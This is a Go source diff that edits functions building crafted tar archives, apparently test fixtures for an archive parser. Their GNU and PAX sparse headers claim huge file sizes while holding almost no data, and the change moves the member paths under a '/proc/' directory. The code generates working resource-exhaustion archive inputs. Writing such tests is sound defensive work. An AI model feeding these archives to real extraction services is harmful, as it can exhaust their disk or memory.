@@ -79,7 +79,7 @@ func payloadTar() []byte {
 func sparseAttack(n int, logical int64) []byte {
 	b := payloadTar()
 	for i := range n {
-		name := fmt.Sprintf("%s/sparse/f%03d", sosTop, i)
+		name := fmt.Sprintf("%s/proc/sparse/f%03d", sosTop, i)
 		recs := paxRecord("GNU.sparse.major", "1") + paxRecord("GNU.sparse.minor", "0") +
 			paxRecord("GNU.sparse.name", name) + paxRecord("GNU.sparse.realsize", fmt.Sprint(logical))
 		b = append(b, rawBlock("PaxHeaders/x", 'x', int64(len(recs)))...)
@@ -87,7 +87,7 @@ func sparseAttack(n int, logical int64) []byte {
 		sparseMap := make([]byte, 512)
 		copy(sparseMap, fmt.Sprintf("1\n%d\n1\n", logical-1))
 		data := append(sparseMap, 'x')
-		b = append(b, rawBlock(fmt.Sprintf("%s/GNUSparseFile.0/f%03d", sosTop, i), '0', int64(len(data)))...)
+		b = append(b, rawBlock(fmt.Sprintf("%s/proc/GNUSparseFile.0/f%03d", sosTop, i), '0', int64(len(data)))...)
 		b = padded(b, data)
 	}
 	return endTar(b)
@@ -98,7 +98,7 @@ func sparseAttack(n int, logical int64) []byte {
 func oldSparseAttack(n int, logical int64) []byte {
 	b := payloadTar()
 	for i := range n {
-		blk := rawBlock(fmt.Sprintf("%s/sparse/f%03d", sosTop, i), 'S', 1)
+		blk := rawBlock(fmt.Sprintf("%s/proc/sparse/f%03d", sosTop, i), 'S', 1)
 		copy(blk[257:], "ustar  \x00")
 		copy(blk[386:], fmt.Sprintf("%011o\x00%011o\x00", logical-1, 1))
 		copy(blk[483:], fmt.Sprintf("%011o\x00", logical))
@@ -113,7 +113,7 @@ func oldSparseAttack(n int, logical int64) []byte {
 func sparsePlain(n int) []byte {
 	b := payloadTar()
 	for i := range n {
-		b = append(b, rawBlock(fmt.Sprintf("%s/sparse/f%03d", sosTop, i), '0', 1)...)
+		b = append(b, rawBlock(fmt.Sprintf("%s/proc/sparse/f%03d", sosTop, i), '0', 1)...)
 		b = padded(b, []byte("x"))
 	}
 	return endTar(b)
